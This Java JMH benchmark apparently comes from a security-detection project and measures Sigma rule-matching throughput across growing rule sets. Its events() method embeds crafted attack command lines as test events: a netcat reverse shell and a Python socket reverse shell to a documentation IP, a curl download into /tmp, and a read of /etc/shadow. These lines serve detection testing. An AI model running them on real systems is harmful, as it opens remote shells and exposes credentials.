package dev.bulwark.bench;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.infra.Blackhole;

import dev.bulwark.ingest.ParseException;
import dev.bulwark.ingest.Parsers;
import dev.bulwark.ingest.SourceParser;
import dev.bulwark.schemas.ContainerInfo;
import dev.bulwark.schemas.EventInfo;
import dev.bulwark.schemas.ProcessInfo;
import dev.bulwark.schemas.SecurityEvent;
import dev.bulwark.sigma.CompiledRuleSet;
import dev.bulwark.sigma.LoadReport;
import dev.bulwark.sigma.ParsedRules;
import dev.bulwark.sigma.RuleSource;
import dev.bulwark.sigma.SigmaEngine;
import dev.bulwark.sigma.SigmaRule;

/**
 * Events per second per thread of the Sigma matcher ({@code CompiledRuleSet.match}) for a growing number of rules.
 *
 * <p>Why: the matcher runs on every event of the stream; its cost must stay far below linear in the rule count so
 * that adding rules does not slow detection down. Rules: one (netcat reverse shell), {@code linux} (the shipped Linux
 * rules), {@code all} (every shipped rule: Linux and Kubernetes audit), and 100 or 1000 rules: all shipped rules plus
 * variants synthesized by varying their string literals (each variant a distinct rule with its own literals). Events: the real
 * Falco, Tetragon, Kubernetes audit and container log records of the ingest workload, normalized by the ingest
 * parsers, varied (process names, command lines, paths, users) so that most do not match, plus 1 % crafted attacks
 * that do.
 */
@State(Scope.Benchmark)
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
public class SigmaMatchBenchmark {

    /** Events matched per benchmark invocation. */
    static final int EVENTS = 4096;

    private static final Pattern ID = Pattern.compile("(?m)^id: *(\\S+)\\s*$");
    private static final Pattern TITLE = Pattern.compile("(?m)^title: *(.+)$");

    /** Rule set: {@code 1}, {@code linux}, {@code all}, a number of synthesized rules, or a rule folder. */
    @Param({"1", "linux", "all", "100", "1000"})
    public String rules;

    /** With per-rule telemetry (evaluations, sampled time, matches), as the detectors run, or without. */
    @Param({"on", "off"})
    public String telemetry;

    private CompiledRuleSet ruleSet;
    private SecurityEvent[] events;

    /** Loaded rules and the share of events that match, for the report. */
    int loadedRules;
    double matchingShare;

    @Setup(Level.Trial)
    public void setUp() throws IOException {
        SigmaEngine engine = SigmaEngine.create();
        if ("on".equals(telemetry)) {
            engine = engine.withTelemetry(new dev.bulwark.detection.RuleTelemetryRegistry(
                    new io.micrometer.core.instrument.simple.SimpleMeterRegistry(),
                    dev.bulwark.detection.RuleTelemetryRegistry.DEFAULT_MAX_RULES).forDetector("sigma"));
        }
        ruleSet = ruleSet(engine, rules);
        loadedRules = ruleSet.rules().size();
        events = events(EVENTS);
        int matching = 0;
        for (SecurityEvent event : events) {
            if (!ruleSet.match(event).isEmpty()) {
                matching++;
            }
        }
        matchingShare = matching / (double) events.length;
    }

    /** Matches every event once; the score is events per second. */
    @Benchmark
    @OperationsPerInvocation(EVENTS)
    public void match(Blackhole blackhole) {
        for (SecurityEvent event : events) {
            blackhole.consume(ruleSet.match(event));
        }
    }

    /** The rule set of a benchmark parameter. */
    static CompiledRuleSet ruleSet(SigmaEngine engine, String which) {
        ParsedRules shipped = RuleSource.bundled(engine.loader());
        List<SigmaRule> selected = switch (which) {
            case "1" -> shipped.rules().stream().filter(r -> "7f734ed0-4f47-46c0-837f-6ee62505abd9".equals(r.id())).toList();
            case "linux" -> shipped.rules().stream().filter(r -> "linux".equals(r.logsource().product())).toList();
            case "all" -> shipped.rules();
            default -> null;
        };
        LoadReport report;
        if (selected == null && java.nio.file.Files.isDirectory(java.nio.file.Path.of(which))) {
            // any rule folder, a SigmaHQ checkout say: what loads is matched; not applicable and invalid files are
            // left out, as the detector leaves them out (the row's detail says how many rules loaded)
            return engine.load(engine.loader().parsePath(java.nio.file.Path.of(which))).ruleSet();
        }
        if (selected != null) {
            report = engine.load(new ParsedRules(selected, List.of(), List.of()));
        } else {
            report = synthesized(engine, Integer.parseInt(which));
        }
        if (!report.skipped().isEmpty()) {
            throw new IllegalStateException("benchmark rules do not load: " + report.skipped());
        }
        return report.ruleSet();
    }

    /**
     * {@code count} rules: the shipped rules, then variants of them until there are {@code count}; variant k of a rule
     * has its own id and title and every string literal of its detection extended with {@code k} (regular
     * expressions, CIDR ranges and numbers kept), so it is a distinct rule that the same events do not match.
     */
    static LoadReport synthesized(SigmaEngine engine, int count) {
        List<String> texts = List.copyOf(RuleSource.bundledTexts().values());
        ParsedRules parsed = ParsedRules.empty();
        int made = 0;
        for (int variant = -1; made < count; variant++) {
            for (String text : texts) {
                if (made == count) {
                    break;
                }
                String varied = variant < 0 ? text : vary(text, variant);
                ParsedRules one = engine.loader().parse("synthesized-" + made + ".yml", varied);
                if (one.failures().isEmpty() && one.rules().size() == 1) {
                    parsed = parsed.plus(one);
                    made++;
                }
            }
        }
        return engine.load(parsed);
    }

    static String vary(String text, int variant) {
        String suffix = "v" + variant;
        Matcher id = ID.matcher(text);
        String out = id.find() ? id.replaceFirst("id: " + id.group(1) + "-" + suffix) : text;
        Matcher title = TITLE.matcher(out);
        out = title.find() ? title.replaceFirst(Matcher.quoteReplacement("title: " + title.group(1) + " " + suffix)) : out;
        StringBuilder result = new StringBuilder();
        boolean inDetection = false;
        boolean keep = false;
        for (String line : out.split("\n", -1)) {
            if (line.startsWith("detection:")) {
                inDetection = true;
            } else if (!line.isEmpty() && !Character.isWhitespace(line.charAt(0))) {
                inDetection = false;
            }
            String trimmed = line.strip();
            if (inDetection && !trimmed.startsWith("condition") && !trimmed.isEmpty()) {
                int colon = trimmed.startsWith("- ") ? -1 : trimmed.indexOf(':');
                if (colon > 0) {
                    String key = trimmed.substring(0, colon).toLowerCase(Locale.ROOT);
                    keep = key.contains("|re") || key.contains("|cidr") || key.contains("|gt") || key.contains("|lt")
                            || key.contains("|exists") || key.contains("|expand") || key.contains("|fieldref");
                    String value = trimmed.substring(colon + 1).strip();
                    if (!value.isEmpty() && !keep) {
                        line = line.substring(0, line.indexOf(trimmed) + colon + 1) + " " + varyValue(value, suffix);
                    }
                } else if (trimmed.startsWith("- ") && !keep) {
                    line = line.substring(0, line.indexOf(trimmed)) + "- " + varyValue(trimmed.substring(2).strip(), suffix);
                }
            }
            result.append(line).append('\n');
        }
        return result.toString();
    }

    private static String varyValue(String value, String suffix) {
        if (value.matches("-?\\d+") || value.equals("null") || value.equals("true") || value.equals("false")
                || value.startsWith("[") || value.startsWith("{")) {
            return value;
        }
        if ((value.startsWith("'") && value.endsWith("'")) || (value.startsWith("\"") && value.endsWith("\""))) {
            return value.substring(0, value.length() - 1) + suffix + value.charAt(value.length() - 1);
        }
        return "'" + value.replace("'", "''") + suffix + "'";
    }

    /** {@code count} realistic events: the ingest workload's records, varied, and 1 % attacks. */
    static SecurityEvent[] events(int count) throws IOException {
        List<SecurityEvent> templates = new ArrayList<>();
        for (String format : List.of("falco", "tetragon", "k8s-audit", "cri", "docker")) {
            SourceParser parser = Parsers.forFormat(format);
            for (byte[] record : Workloads.records(format)) {
                try {
                    templates.addAll(parser.normalize(record, "bench").events());
                } catch (ParseException e) {
                    throw new IOException(e);
                }
            }
        }
        List<SecurityEvent> attacks = List.of(
                exec("/usr/bin/nc", "nc 203.0.113.10 4444 -e /bin/sh"),
                exec("/usr/bin/python3", "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.10',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"),
                exec("/usr/bin/curl", "curl -o /tmp/x http://203.0.113.10/x"),
                exec("/usr/bin/cat", "cat /etc/shadow"));
        SplittableRandom random = new SplittableRandom(42);
        String[] names = {"nginx", "java", "node", "python3", "postgres", "redis-server", "sh", "ls", "cat", "envoy"};
        SecurityEvent[] events = new SecurityEvent[count];
        for (int i = 0; i < count; i++) {
            if (i % 100 == 99) {
                events[i] = attacks.get((i / 100) % attacks.size());
                continue;
            }
            SecurityEvent template = templates.get(random.nextInt(templates.size()));
            SecurityEvent.Builder event = SecurityEvent.newBuilder(template).setId("bench-" + i);
            if (template.getProcess() != null) {
                String name = names[random.nextInt(names.length)];
                ProcessInfo process = ProcessInfo.newBuilder(template.getProcess())
                        .setName(name)
                        .setExecutable("/usr/bin/" + name)
                        .setCommandLine(name + " --worker " + random.nextInt(1000) + " /srv/app/" + random.nextInt(50))
                        .setUserName(random.nextBoolean() ? "app" : "www-data")
                        .build();
                event.setProcess(process);
            }
            if (template.getContainer() != null) {
                event.setContainer(ContainerInfo.newBuilder(template.getContainer())
                        .setId(Long.toHexString(random.nextLong()).substring(0, 12)).build());
            }
            events[i] = event.build();
        }
        return events;
    }

    private static SecurityEvent exec(String executable, String commandLine) {
        return SecurityEvent.newBuilder()
                .setId("attack")
                .setTimestamp(1_700_000_000_000_000_000L)
                .setSourceFormat("tetragon")
                .setEvent(EventInfo.newBuilder().setKind("event").setCategory(List.of("process"))
                        .setType(List.of("start")).build())
                .setContainer(ContainerInfo.newBuilder().setId("0123456789ab").build())
                .setProcess(ProcessInfo.newBuilder().setExecutable(executable)
                        .setName(executable.substring(executable.lastIndexOf('/') + 1)).setCommandLine(commandLine)
                        .setArgs(List.of(commandLine.split(" "))).setUserName("root").setPid(4242L).build())
                .build();
    }
}
